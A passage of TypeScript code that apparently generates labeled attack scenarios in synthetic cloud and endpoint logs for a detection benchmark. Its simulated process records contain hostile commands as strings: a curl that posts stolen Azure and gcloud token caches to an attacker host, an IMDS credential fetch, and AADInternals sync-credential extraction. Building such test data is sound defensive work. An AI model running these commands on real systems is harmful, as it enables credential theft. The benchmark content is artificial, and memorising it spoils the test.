// Attack scenarios, one per classes.md attack class (several for some), spread over the days after
// the 14-day baseline; variants are chosen per seed (attacker in the victim's own country, hosting
// vs residential networks, interactive vs non-interactive-only, ...). Attack labels list only what
// the attack touched: shared org egress addresses are never listed.
import { HOSTING, FOREIGN_ISPS, HOME_ISPS, CLOUD, CLOUD_SITE, type Site, type Net } from './net.js';
import type { Device, User, World } from './world.js';
import type { Workloads } from './background.js';
import type { Plan } from './plan.js';

export function planAttacks(w: World, wl: Workloads, plan: Plan, reserved: Set<User>): void {
  const { r, pick, int, hex, guid, signIn, proc, ct, gcp, audit, userTarget, roleProp, deviceTarget, keyProp, users, rec, azCmd, awsCmd, gcloudCmd, CLI_UA, awsAcct, gcpProject, tenantDomain, tenantId, seed } = w;
  const last = w.days - 1;
  const first = Math.min(15, last);
  // attack days: a seeded shuffle of the days after the baseline, weekdays first
  const pool: number[] = [];
  for (let d = first; d <= last; d++) pool.push(d);
  pool.sort((a, b) => Number(w.isWeekend(a)) - Number(w.isWeekend(b)) || r() - 0.5);
  let next = 0;
  const nextDay = (): number => pool[next++ % pool.length]!;
  const take = (pred: (u: User) => boolean, what: string): User => {
    const u = users.find((x) => pred(x) && !reserved.has(x) && x.startDay === 0);
    if (!u) throw new Error(`holdout: no free ${what} left for an attack (the fixed population in world.ts is too small)`);
    reserved.add(u); return u;
  };
  /** Opens an attack label; `notMine` are addresses of the victim's own activity inside the scenario. */
  const attack = (scenario: string, cls: string, variant: string, description: string, technique: string[], notMine: string[] = []) =>
    rec.open({ scenario, kind: 'attack', class: cls, variant, description, technique }, new Set([...w.orgShared, ...notMine]));
  /** A hosting address (optionally in a given country) and where it is. */
  const hosting = (cc?: string): { ip: string; site: Site } => {
    const cands = cc ? HOSTING.filter((h) => h.site.cc === cc) : HOSTING;
    const h = pick(cands.length ? cands : HOSTING);
    return { ip: w.ipIn(h.net), site: h.site };
  };
  /** A residential address in `cc` from an ISP other than the user's own (a residential proxy). */
  const residential = (cc: string, not?: Net): { ip: string; site: Site } => {
    const isps = (HOME_ISPS[cc] ?? []).filter((n) => n !== not);
    const home = users.find((u) => u.home.cc === cc)!.home;
    if (isps.length) return { ip: w.ipIn(pick(isps)), site: { ...home, city: home.city, lat: home.lat + 0.3, lon: home.lon - 0.2 } };
    const f = pick(FOREIGN_ISPS); return { ip: w.ipIn(f.net), site: f.site };
  };
  const foreign = (): { ip: string; site: Site } => { const f = pick(FOREIGN_ISPS); return { ip: w.ipIn(f.net), site: f.site }; };
  const ua = { linuxFirefox: 'Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0', kali: 'aws-cli/2.13.25 Python/3.11.5 Linux/6.2.0-39-generic exe/x86_64.kali.2023 prompt/off command/sts.get-caller-identity', python: 'python-requests/2.31.0' };
  const T = 'T1021.007';

  // 1. APT29: a synced admin account used from a regular user's workstation (cloud CLI on an unusual host)
  {
    const owner = take((u) => u.pop === 'cloud-admin' && !!u.admin, 'cloud-admin user'); const adm = owner.admin!;
    const wsUser = take((u) => u.pop === 'regular' && u.device.os === 'Windows' && u.home === owner.home, 'regular user'); const ws = wsUser.device;
    const day = nextDay();
    plan.at(day, () => {
      const t0 = w.workTime(day, owner.home, 12, 15); const ip = w.officeIp(owner.office, t0);
      const backdoor = { id: guid(), upn: `svc-backup-ops@${tenantDomain}`, display: 'svc-backup-ops' };
      attack('apt29-synced-admin', 'cloud-cli-unusual-host', 'wmi-synced-admin-workstation', 'APT29: a synced privileged account runs Azure AD / Graph PowerShell from another user\'s workstation (WMI-spawned), creates a user, grants Global Administrator, adds a credential to an app', [T, 'T1078.004', 'T1098.001', 'T1136.003']);
      const acct = w.acctOf(adm);
      const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
      proc({ t: t0, dev: ws, acct, file: 'powershell.exe', folder: ps, cmd: `powershell.exe -nop -w hidden -c "Import-Module AzureAD; Connect-AzureAD -AccountId ${adm.upn}"`, parent: 'wmiprvse.exe', parentCmd: 'C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding', grand: 'svchost.exe' });
      proc({ t: t0 + 240000, dev: ws, acct, file: 'powershell.exe', folder: ps, cmd: 'powershell.exe -nop -c "Connect-MgGraph -Scopes Application.ReadWrite.All,RoleManagement.ReadWrite.Directory -NoWelcome; Get-MgServicePrincipal -All"', parent: 'wmiprvse.exe', parentCmd: 'C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding', grand: 'svchost.exe' });
      signIn({ t: t0 + 20000, u: adm, app: 'aadps', res: 'aadgraph', ip, site: owner.home, dev: ws, interactive: true, mfa: false, ua: CLI_UA.ps51 });
      signIn({ t: t0 + 260000, u: adm, app: 'graphps', res: 'graph', ip, site: owner.home, dev: ws, interactive: true, mfa: false, ua: CLI_UA.ps51 });
      for (let k = 0; k < 4; k++) signIn({ t: t0 + 300000 + k * 300000, u: adm, app: 'graphps', res: 'graph', ip, site: owner.home, dev: ws, interactive: false });
      const by = { upn: adm.upn, id: adm.id, ip };
      audit(t0 + 900000, 'Add user', 'UserManagement', by, [userTarget(backdoor)]);
      audit(t0 + 960000, 'Add member to role', 'RoleManagement', by, [userTarget(backdoor, roleProp('Global Administrator'))]);
      const app = wl.apps[1]!;
      audit(t0 + 1500000, 'Add service principal credentials', 'ApplicationManagement', by, [{ id: app.spId, displayName: app.name, type: 'ServicePrincipal', modifiedProperties: keyProp(guid(), 'AsymmetricX509Cert', 'CN=mail-archiver') }]);
      rec.add('accounts', backdoor.upn); rec.add('devices', ws.name);
      rec.close();
    });
  }

  // 2. cloud CLI on a server the account never used it on (encoded PowerShell / pwsh on Linux / 8.3 path)
  {
    const v = seed % 3;
    const victim = take((u) => u.pop === 'devops' && u.device.os !== 'Windows', 'devops user');
    const host: Device = v === 1 ? w.servers[2]! : v === 0 ? w.servers[1]! : w.servers[3]!;
    const day = nextDay();
    plan.at(day, () => {
      const t0 = w.workTime(day, victim.home, 19, 22); const ip = w.officeIp(victim.office, t0);
      const variant = v === 0 ? 'encoded-command-file-server' : v === 1 ? 'pwsh-linux-server' : 'short-path-jump-host';
      attack(`cli-unusual-host-${variant}`, 'cloud-cli-unusual-host', variant, `A DevOps engineer's account runs a cloud CLI on ${host.name}, a server it never used for it (${variant}), then reads Key Vault secrets and lists role assignments`, [T, 'T1059.001', 'T1552.001']);
      const acct = w.acctOf(victim);
      if (v === 0) {
        const script = `Connect-AzAccount -Tenant ${tenantId} -UseDeviceAuthentication; Get-AzKeyVaultSecret -VaultName kv-prod-weu`;
        const b64 = Buffer.from(script, 'utf16le').toString('base64');
        proc({ t: t0, dev: host, acct, file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ${b64}`, parent: 'cmd.exe', parentCmd: 'cmd.exe /c', grand: 'wsmprovhost.exe' });
      } else if (v === 1) {
        proc({ t: t0, dev: host, acct: { ...acct, upn: '' }, file: 'pwsh', folder: '/opt/microsoft/powershell/7/pwsh', cmd: `pwsh -NoLogo -c "Connect-AzAccount -UseDeviceAuthentication -Tenant ${tenantDomain}; Get-AzKeyVaultSecret -VaultName kv-prod-weu"`, parent: 'bash', parentCmd: 'bash', grand: 'sshd' });
        proc({ t: t0 + 400000, dev: host, acct: { ...acct, upn: '' }, ...azCmd(host, 'role assignment list --all -o json') });
      } else {
        proc({ t: t0, dev: host, acct, file: 'cmd.exe', folder: 'C:\\Windows\\System32\\cmd.exe', cmd: 'C:\\Windows\\system32\\cmd.exe /d /c "C:\\PROGRA~1\\MICROS~3\\Azure\\CLI2\\wbin\\az.cmd" login --use-device-code', parent: 'cmd.exe', parentCmd: 'cmd.exe', grand: 'rdpclip.exe' });
        proc({ t: t0 + 30000, dev: host, acct, file: 'python.exe', folder: 'C:\\PROGRA~1\\MICROS~3\\Azure\\CLI2\\python.exe', cmd: 'C:\\PROGRA~1\\MICROS~3\\Azure\\CLI2\\python.exe -IBm azure.cli keyvault secret list --vault-name kv-prod-weu', parent: 'cmd.exe', parentCmd: 'cmd.exe /d /c az.cmd keyvault secret list --vault-name kv-prod-weu', grand: 'cmd.exe' });
      }
      signIn({ t: t0 + 60000, u: victim, app: v === 2 ? 'azcli' : 'azps', res: 'arm', ip, site: victim.home, dev: null, interactive: true, mfa: true, protocol: 'deviceCode', ua: v === 2 ? CLI_UA.az('Windows') : 'Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.17763; en-US) PowerShell/7.4.1' });
      for (let k = 0; k < 3; k++) signIn({ t: t0 + 120000 + k * 200000, u: victim, app: v === 2 ? 'azcli' : 'azps', res: k ? 'kv' : 'arm', ip, site: victim.home, dev: null, interactive: false });
      rec.add('devices', host.name, host.fqdn);
      rec.close();
    });
  }

  // 3. Storm-0501: the Entra Connect Sync_ account abused (from outside, or on the sync server itself)
  {
    const onServer = seed % 2 === 0;
    const owner = take((u) => u.pop === 'cloud-admin' && !!u.admin, 'cloud-admin user'); const victim = owner.admin!;
    const grantee = take((u) => u.pop === 'regular', 'regular user');
    const day = nextDay();
    plan.at(day, () => {
      const h = hosting('NL'); const ip = onServer ? w.syncIp : h.ip; const site = onServer ? w.users[0]!.office.site : h.site;
      const t0 = w.dayStart(day) + int(1, 4) * 3600000 + int(0, 59) * 60000;
      attack(onServer ? 'storm0501-sync-abuse-onserver' : 'storm0501-sync-abuse', 'sync-account', onServer ? 'on-sync-server' : 'outside-sync-server', `Storm-0501: Entra Connect Sync_ account credentials extracted with AADInternals and used ${onServer ? 'from the sync server itself' : 'from a VPS'} for non-sync work: password reset of a synced admin, sign-in as that admin, role grant`, [T, 'T1078.002', 'T1098.003']);
      proc({ t: t0 - 1800000, dev: w.syncHost, acct: { sam: 'svc-aadc-admin', upn: '', sid: 'S-1-5-21-3623811015-3361044348-30300820-9100' }, file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -ep bypass -c "Import-Module AADInternals; Get-AADIntSyncCredentials | ConvertTo-Json"', parent: 'cmd.exe', parentCmd: 'cmd.exe', grand: 'WmiPrvSE.exe' });
      signIn({ t: t0, u: w.sync, app: 'aadps', res: 'aadgraph', ip, site, dev: null, interactive: false, ua: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.5458' });
      signIn({ t: t0 + 30000, u: w.sync, app: 'graphps', res: 'graph', ip, site, dev: null, interactive: false });
      audit(t0 + 120000, 'Reset user password', 'UserManagement', { upn: w.sync.upn, id: w.sync.id, ip }, [userTarget(victim)]);
      signIn({ t: t0 + 600000, u: victim, app: 'portal', res: 'arm', ip, site, dev: null, interactive: true, mfa: false, ua: CLI_UA.browser });
      signIn({ t: t0 + 720000, u: victim, app: 'azps', res: 'arm', ip, site, dev: null, interactive: true, mfa: false });
      audit(t0 + 900000, 'Add member to role', 'RoleManagement', { upn: victim.upn, id: victim.id, ip }, [userTarget(grantee, roleProp('Privileged Role Administrator'))]);
      rec.add('devices', w.syncHost.name, w.syncHost.fqdn); rec.add('accounts', 'svc-aadc-admin', w.sync.upn);
      if (onServer) rec.add('ips', w.syncIp);
      rec.close();
    });
  }

  // 4. Scattered Spider: EC2 instance-role credentials used from outside the instance
  {
    const fromAws = seed % 2 === 1;
    const day = nextDay();
    plan.at(day, () => {
      const src = fromAws ? { ip: w.ipIn(CLOUD.awsApse1), site: CLOUD_SITE.apse1 } : hosting(); const newUser = `svc-${hex(4)}-support`;
      const t0 = w.dayStart(day) + int(6, 20) * 3600000;
      attack('scatteredspider-ec2-creds', 'ec2-instance-creds', fromAws ? 'from-attacker-ec2' : 'from-vps', `Scattered Spider: the app server's instance-role credentials read from IMDS and used ${fromAws ? 'from an EC2 instance in another account/region' : 'from a VPS'}: enumeration, new IAM user with AdministratorAccess, access key, console login`, [T, 'T1552.005', 'T1136.003', 'T1098.001']);
      proc({ t: t0 - 300000, dev: wl.ec2Host, acct: { sam: 'ec2-user', upn: '', sid: '' }, file: 'curl', folder: '/usr/bin/curl', cmd: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app-server-role', parent: 'bash', parentCmd: 'bash -i', grand: 'sshd' });
      const base = { type: 'AssumedRole', arn: `arn:aws:sts::${awsAcct}:assumed-role/app-server-role/${wl.instanceId}`, principal: `AROA${hex(8).toUpperCase()}:${wl.instanceId}`, ua: fromAws ? CLI_UA.awscli('Linux') : ua.kali, ip: src.ip, issuer: 'app-server-role', key: `ASIA${hex(16).toUpperCase()}` };
      ct({ t: t0, name: 'GetCallerIdentity', src: 'sts.amazonaws.com', ro: true, ...base });
      ct({ t: t0 + 60000, name: 'ListUsers', src: 'iam.amazonaws.com', ro: true, ...base });
      ct({ t: t0 + 90000, name: 'ListRoles', src: 'iam.amazonaws.com', ro: true, ...base });
      ct({ t: t0 + 300000, name: 'CreateUser', src: 'iam.amazonaws.com', ...base, req: { userName: newUser } });
      ct({ t: t0 + 330000, name: 'AttachUserPolicy', src: 'iam.amazonaws.com', ...base, req: { userName: newUser, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } });
      ct({ t: t0 + 360000, name: 'CreateAccessKey', src: 'iam.amazonaws.com', ...base, req: { userName: newUser } });
      ct({ t: t0 + 900000, name: 'ConsoleLogin', src: 'signin.amazonaws.com', type: 'IAMUser', arn: `arn:aws:iam::${awsAcct}:user/${newUser}`, principal: `AIDA${hex(16).toUpperCase()}`, ua: CLI_UA.browser, ip: src.ip, user: newUser, consoleType: true, resp: { ConsoleLogin: 'Success' }, add: { MobileVersion: 'No', MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/console/home' } });
      rec.add('devices', wl.ec2Host.name, wl.ec2Host.fqdn); rec.add('cloud', wl.instanceId, newUser);
      rec.close();
    });
  }

  // 5. (other) token cache theft on a developer box by a malicious npm package, refresh token replayed
  {
    const dev = take((u) => u.pop === 'devops' && u.device.os !== 'Windows', 'devops user');
    const variant = seed % 3 === 0 ? 'anonymizer' : seed % 2 === 0 ? 'same-country-hosting' : 'foreign-hosting';
    const day = nextDay();
    plan.at(day, () => {
      const src = variant === 'same-country-hosting' ? hosting(dev.home.cc) : hosting(pick(['SG', 'JP', 'FI', 'RO']));
      const t0 = w.workTime(day, dev.home, 10, 12);
      attack(`token-cache-theft-${variant}`, 'other', `npm-postinstall-token-cache-${variant}`, 'Supply-chain: a malicious npm postinstall reads the Azure CLI MSAL token cache and gcloud credentials.db and posts them out; 95 minutes later the refresh token is replayed (non-interactive Azure CLI / Graph) from a hosting network, an SP credential is added and a GCP IAM policy changed', [T, 'T1528', 'T1550.001', 'T1195.002']);
      const acct = w.acctOf(dev);
      const home = dev.device.os === 'macOS' ? `/Users/${dev.sam}` : `/home/${dev.sam}`;
      proc({ t: t0, dev: dev.device, acct, file: 'sh', folder: '/bin/sh', cmd: `sh -c cat ${home}/.azure/msal_token_cache.json ${home}/.config/gcloud/credentials.db | base64 | curl -s -X POST --data-binary @- https://cdn-telemetry-sync.net/u`, parent: 'node', parentCmd: 'node node_modules/colors-ansi-x/postinstall.js', grand: 'npm' });
      proc({ t: t0 + 20000, dev: dev.device, acct, file: 'python3', folder: '/usr/bin/python3', cmd: `python3 -c "print(open('${home}/.azure/msal_token_cache.json').read())"`, parent: 'node', parentCmd: 'node node_modules/colors-ansi-x/postinstall.js', grand: 'npm' });
      const t1 = t0 + 95 * 60000; const anon = variant === 'anonymizer';
      for (let k = 0; k < 5; k++) signIn({ t: t1 + k * 240000, u: dev, app: k < 3 ? 'azcli' : 'graphps', res: k < 3 ? 'arm' : 'graph', ip: src.ip, site: src.site, dev: null, interactive: false, ua: CLI_UA.az('Linux'), ...(anon ? { anon: true, risk: 'medium', riskState: 'atRisk', riskEvents: ['anonymizedIPAddress'] } : {}) });
      const app = wl.apps[2]!;
      audit(t1 + 1500000, 'Add service principal credentials', 'ApplicationManagement', { upn: dev.upn, id: dev.id, ip: src.ip }, [{ id: app.spId, displayName: app.name, type: 'ServicePrincipal', modifiedProperties: keyProp(guid(), 'Password', 'tf-ci') }]);
      gcp(t1 + 1800000, dev.upn, 'SetIamPolicy', 'cloudresourcemanager.googleapis.com', src.ip, CLI_UA.gcloud(), `projects/${gcpProject}`);
      rec.add('devices', dev.device.name);
      rec.close();
    });
  }

  // 6. aws-federation-persistence (a): phished user federates into AWS console and GCP from a new country
  {
    const victim = take((u) => u.pop === 'regular', 'regular user');
    const day = nextDay();
    plan.at(day, () => {
      const src = hosting('RO'); const t0 = w.dayStart(day) + int(13, 17) * 3600000;
      attack('federated-console-sso', 'aws-federation-persistence', 'sso-console-new-country', 'A phished user signs in from a VPS abroad (risk flagged), federates into the AWS console via IAM Identity Center (AssumeRoleWithSAML, GetSigninToken, ConsoleLogin, reads secrets) and into Google Cloud (CreateServiceAccountKey)', [T, 'T1078.004', 'T1606.002']);
      signIn({ t: t0, u: victim, app: 'office', res: 'spo', ip: src.ip, site: src.site, dev: null, interactive: true, mfa: true, risk: 'medium', riskState: 'atRisk', riskEvents: ['unfamiliarFeatures'], ua: ua.linuxFirefox });
      signIn({ t: t0 + 120000, u: victim, app: 'awssso', res: 'graph', ip: src.ip, site: src.site, dev: null, interactive: true, mfa: true, ua: ua.linuxFirefox });
      const role = 'AWSReservedSSO_ReadOnlyAccess_9f8e7d6c5b';
      ct({ t: t0 + 130000, name: 'AssumeRoleWithSAML', src: 'sts.amazonaws.com', type: 'SAMLUser', arn: '', principal: victim.upn, user: victim.upn, ua: 'aws-internal/3', ip: src.ip, req: { roleArn: `arn:aws:iam::${awsAcct}:role/aws-reserved/sso.amazonaws.com/${role}` } });
      const sess = `arn:aws:sts::${awsAcct}:assumed-role/${role}/${victim.upn}`; const principal = `AROA${hex(8).toUpperCase()}:${victim.upn}`;
      ct({ t: t0 + 140000, name: 'GetSigninToken', src: 'signin.amazonaws.com', type: 'AssumedRole', arn: sess, principal, ua: ua.linuxFirefox, ip: src.ip, issuer: role, consoleType: true, resp: { GetSigninToken: 'Success' } });
      ct({ t: t0 + 150000, name: 'ConsoleLogin', src: 'signin.amazonaws.com', type: 'AssumedRole', arn: sess, principal, ua: ua.linuxFirefox, ip: src.ip, issuer: role, consoleType: true, resp: { ConsoleLogin: 'Success' }, add: { MobileVersion: 'No', MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/console/home' } });
      for (let k = 0; k < 4; k++) ct({ t: t0 + 300000 + k * 120000, name: pick(['ListBuckets', 'DescribeInstances', 'GetSecretValue']), src: pick(['s3.amazonaws.com', 'ec2.amazonaws.com', 'secretsmanager.amazonaws.com']), type: 'AssumedRole', arn: sess, principal, ua: ua.linuxFirefox, ip: src.ip, issuer: role, ro: true });
      signIn({ t: t0 + 1800000, u: victim, app: 'gcpsso', res: 'graph', ip: src.ip, site: src.site, dev: null, interactive: true, mfa: true, ua: ua.linuxFirefox });
      gcp(t0 + 1900000, victim.upn, 'google.iam.admin.v1.CreateServiceAccountKey', 'iam.googleapis.com', src.ip, `${ua.linuxFirefox},gzip(gfe)`, `projects/${gcpProject}/serviceAccounts/ci-deployer@${gcpProject}.iam.gserviceaccount.com`);
      rec.close();
    });
  }

  // 7. aws-federation-persistence (b): SAML role session from outside, or one role session from two IPs, then IAM persistence
  {
    const twoIps = seed % 2 === 0;
    const victim = take((u) => u.pop === 'devops', 'devops user');
    const day = nextDay();
    plan.at(day, () => {
      const src = twoIps ? hosting(victim.home.cc) : hosting(); const t0 = w.workTime(day, victim.home, 9, 16);
      const variant = twoIps ? 'role-session-two-ips' : 'saml-from-outside';
      attack(`aws-federation-persistence-${variant}`, 'aws-federation-persistence', variant, twoIps
        ? 'A DevOps engineer\'s IAM Identity Center role session (its temporary keys) is used from a hosting IP minutes after the engineer\'s own calls; the attacker adds a console password to a break-glass IAM user and an inline admin policy'
        : 'AssumeRoleWithSAML for a DevOps engineer from a VPS outside the org and the user\'s networks, then a new IAM user with an access key and AdministratorAccess', [T, 'T1078.004', 'T1098.001', 'T1136.003'], [victim.homeIp]);
      const role = 'AWSReservedSSO_PowerUserAccess_5e2a1b3c4d';
      const sess = `arn:aws:sts::${awsAcct}:assumed-role/${role}/${victim.upn}`; const principal = `AROA${hex(8).toUpperCase()}:${victim.upn}`; const key = `ASIA${hex(16).toUpperCase()}`;
      if (twoIps) {
        const own = victim.homeIp;
        rec.add('accounts', victim.upn);
        ct({ t: t0, name: 'AssumeRoleWithSAML', src: 'sts.amazonaws.com', type: 'SAMLUser', arn: '', principal: victim.upn, user: victim.upn, ua: 'aws-internal/3', ip: own, req: { roleArn: `arn:aws:iam::${awsAcct}:role/aws-reserved/sso.amazonaws.com/${role}` }, resp: { credentials: { accessKeyId: key } } });
        ct({ t: t0 + 60000, name: 'DescribeInstances', src: 'ec2.amazonaws.com', type: 'AssumedRole', arn: sess, principal, key, ua: CLI_UA.awscli(victim.device.os), ip: own, issuer: role, ro: true, sessionDate: t0 });
        ct({ t: t0 + 7 * 60000, name: 'GetCallerIdentity', src: 'sts.amazonaws.com', type: 'AssumedRole', arn: sess, principal, key, ua: ua.python, ip: src.ip, issuer: role, ro: true, sessionDate: t0 });
        ct({ t: t0 + 9 * 60000, name: 'ListUsers', src: 'iam.amazonaws.com', type: 'AssumedRole', arn: sess, principal, key, ua: ua.python, ip: src.ip, issuer: role, ro: true, sessionDate: t0 });
        ct({ t: t0 + 12 * 60000, name: 'CreateLoginProfile', src: 'iam.amazonaws.com', type: 'AssumedRole', arn: sess, principal, key, ua: ua.python, ip: src.ip, issuer: role, sessionDate: t0, req: { userName: 'breakglass-aws', passwordResetRequired: false } });
        ct({ t: t0 + 13 * 60000, name: 'PutUserPolicy', src: 'iam.amazonaws.com', type: 'AssumedRole', arn: sess, principal, key, ua: ua.python, ip: src.ip, issuer: role, sessionDate: t0, req: { userName: 'breakglass-aws', policyName: 'ops-full', policyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}' } });
        ct({ t: t0 + 20 * 60000, name: 'ConsoleLogin', src: 'signin.amazonaws.com', type: 'IAMUser', arn: `arn:aws:iam::${awsAcct}:user/breakglass-aws`, principal: `AIDA${hex(16).toUpperCase()}`, user: 'breakglass-aws', ua: ua.linuxFirefox, ip: src.ip, consoleType: true, resp: { ConsoleLogin: 'Success' }, add: { MobileVersion: 'No', MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/console/home' } });
      } else {
        const newUser = `ops-${hex(3)}-automation`;
        signIn({ t: t0 - 60000, u: victim, app: 'awssso', res: 'graph', ip: src.ip, site: src.site, dev: null, interactive: true, mfa: true, ua: ua.linuxFirefox });
        ct({ t: t0, name: 'AssumeRoleWithSAML', src: 'sts.amazonaws.com', type: 'SAMLUser', arn: '', principal: victim.upn, user: victim.upn, ua: 'aws-internal/3', ip: src.ip, req: { roleArn: `arn:aws:iam::${awsAcct}:role/aws-reserved/sso.amazonaws.com/${role}` }, resp: { credentials: { accessKeyId: key } } });
        for (const [k, name] of ['GetCallerIdentity', 'ListRoles', 'CreateUser', 'CreateAccessKey', 'AttachUserPolicy'].entries()) {
          ct({ t: t0 + (k + 1) * 90000, name, src: name === 'GetCallerIdentity' ? 'sts.amazonaws.com' : 'iam.amazonaws.com', type: 'AssumedRole', arn: sess, principal, key, ua: ua.kali, ip: src.ip, issuer: role, ro: name.startsWith('Get') || name.startsWith('List'), sessionDate: t0, req: name.startsWith('Get') || name.startsWith('List') ? undefined : { userName: newUser, ...(name === 'AttachUserPolicy' ? { policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } : {}) } });
        }
        rec.add('cloud', newUser);
      }
      rec.close();
    });
  }

  // 8. mfa-fatigue-device: prompt bombing, approval, device registration, control-plane sign-ins from the new device
  {
    const victim = take((u) => u.pop === 'regular' && u.home.cc !== 'SG', 'regular user');
    const local = seed % 2 === 1; const android = seed % 3 === 2;
    const day = nextDay();
    plan.at(day, () => {
      const src = local ? residential(victim.home.cc, victim.homeIsp) : hosting(pick(['NL', 'DE', 'US', 'FI'].filter((c) => c !== victim.home.cc)));
      const t0 = w.workTime(day, victim.home, 18, 22);
      const variant = `${local ? 'own-country-residential' : 'hosting'}-${android ? 'android' : 'windows'}-device`;
      attack(`mfa-fatigue-device-${variant}`, 'mfa-fatigue-device', variant, `MFA fatigue: a burst of push prompts the user denies or ignores, one approval, then a new ${android ? 'Android' : 'Windows'} device is registered and used for Azure portal / Azure CLI / Graph`, [T, 'T1621', 'T1098.005', 'T1078.004']);
      const n = int(8, 20); const session = guid();
      for (let k = 0; k < n; k++) signIn({ t: t0 + k * int(40, 90) * 1000, u: victim, app: 'office', res: 'spo', ip: src.ip, site: src.site, dev: null, interactive: true, result: k % 4 === 3 ? '50074' : '500121', ua: CLI_UA.chrome, session });
      const tA = t0 + n * 70000 + 60000;
      signIn({ t: tA, u: victim, app: 'office', res: 'spo', ip: src.ip, site: src.site, dev: null, interactive: true, mfa: true, ua: CLI_UA.chrome, session });
      const nd = w.mkDevice(null, android ? 'Android' : 'Windows', android ? '' : 'DESKTOP-');
      if (!android) nd.name = `DESKTOP-${hex(7).toUpperCase()}`;
      signIn({ t: tA + 120000, u: victim, app: 'broker', res: 'drs', ip: src.ip, site: src.site, dev: null, interactive: true, mfa: true, ua: android ? 'Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)' : 'Dsreg/10.0 (Windows 10.0.19045.4170)' });
      audit(tA + 150000, 'Register device', 'Device', { upn: victim.upn, id: victim.id, ip: src.ip }, [deviceTarget(nd)], { service: 'Device Registration Service' });
      audit(tA + 151000, 'Add device', 'Device', { upn: victim.upn, id: victim.id, ip: src.ip }, [deviceTarget(nd)], { service: 'Device Registration Service' });
      audit(tA + 152000, 'Add registered owner to device', 'Device', { upn: victim.upn, id: victim.id, ip: src.ip }, [deviceTarget(nd), userTarget(victim)]);
      audit(tA + 153000, 'Add registered users to device', 'Device', { upn: victim.upn, id: victim.id, ip: src.ip }, [deviceTarget(nd), userTarget(victim)]);
      signIn({ t: tA + 600000, u: victim, app: 'portal', res: 'arm', ip: src.ip, site: src.site, dev: nd, interactive: true, mfa: true, ua: CLI_UA.chrome });
      signIn({ t: tA + 900000, u: victim, app: 'azcli', res: 'arm', ip: src.ip, site: src.site, dev: nd, interactive: true, mfa: true, ua: CLI_UA.az('Windows') });
      for (let k = 0; k < 4; k++) signIn({ t: tA + 1000000 + k * 400000, u: victim, app: pick(['azcli', 'graphps']), res: pick(['arm', 'graph']), ip: src.ip, site: src.site, dev: nd, interactive: false });
      rec.add('devices', nd.name);
      rec.close();
    });
  }

  // 9. session-replay, interactive: a stolen session cookie (AiTM) replayed from another network within minutes
  {
    const victim = take((u) => u.pop === 'regular', 'regular user');
    const sameCountry = seed % 2 === 0;
    const day = nextDay();
    plan.at(day, () => {
      const src = sameCountry ? hosting(victim.home.cc) : hosting(); const t0 = w.workTime(day, victim.home, 9, 16);
      const own = victim.homeIp;
      const variant = sameCountry ? 'aitm-cookie-same-country-hosting' : 'aitm-cookie-hosting';
      attack(`session-replay-${variant}`, 'session-replay', variant, 'A session cookie stolen by an adversary-in-the-middle phishing page is replayed from a hosting network minutes after the user\'s own sign-in: the same SessionId (and CorrelationId) from two networks; the attacker reads mail and opens the Azure portal', [T, 'T1539', 'T1550.004'], [own]);
      const session = guid(); const corr = guid();
      signIn({ t: t0, u: victim, app: 'office', res: 'spo', ip: own, site: victim.home, dev: victim.device, interactive: true, mfa: true, session, corr });
      signIn({ t: t0 + 3 * 60000, u: victim, app: 'outlook', res: 'exo', ip: own, site: victim.home, dev: victim.device, interactive: false, session });
      signIn({ t: t0 + 6 * 60000, u: victim, app: 'office', res: 'spo', ip: src.ip, site: src.site, dev: null, interactive: true, session, corr, ua: ua.linuxFirefox, token: 'primaryRefreshToken' });
      signIn({ t: t0 + 8 * 60000, u: victim, app: 'owa', res: 'exo', ip: src.ip, site: src.site, dev: null, interactive: false, session, ua: ua.linuxFirefox });
      signIn({ t: t0 + 14 * 60000, u: victim, app: 'portal', res: 'arm', ip: src.ip, site: src.site, dev: null, interactive: true, session, ua: ua.linuxFirefox });
      for (let k = 0; k < 3; k++) signIn({ t: t0 + (16 + k * 5) * 60000, u: victim, app: pick(['owa', 'portal']), res: pick(['exo', 'graph']), ip: src.ip, site: src.site, dev: null, interactive: false, session, ua: ua.linuxFirefox });
      rec.close();
    });
  }

  // 10. session-replay, non-interactive only: a refresh token's session replayed; only AADNonInteractiveUserSignInLogs show it
  {
    const victim = take((u) => u.pop === 'regular', 'regular user');
    const day = nextDay();
    plan.at(day, () => {
      const src = seed % 3 === 1 ? hosting(victim.home.cc) : hosting(); const t0 = w.workTime(day, victim.home, 10, 15); const own = w.officeIp(victim.office, t0);
      attack('session-replay-noninteractive-only', 'session-replay', seed % 3 === 1 ? 'noninteractive-only-refresh-token-same-country-hosting' : 'noninteractive-only-refresh-token-hosting', 'Refresh token stolen from a browser profile by an infostealer, replayed from a hosting network: the same SessionId and UniqueTokenIdentifier seen from the office and the VPS within minutes, only in the non-interactive sign-in log; Graph mail and files read', [T, 'T1528', 'T1550.001']);
      const session = guid(); const uti = hex(22);
      signIn({ t: t0, u: victim, app: 'teams', res: 'graph', ip: own, site: victim.home, dev: victim.device, interactive: false, session, uti });
      signIn({ t: t0 + 4 * 60000, u: victim, app: 'teams', res: 'graph', ip: src.ip, site: src.site, dev: null, interactive: false, session, uti, ua: ua.python });
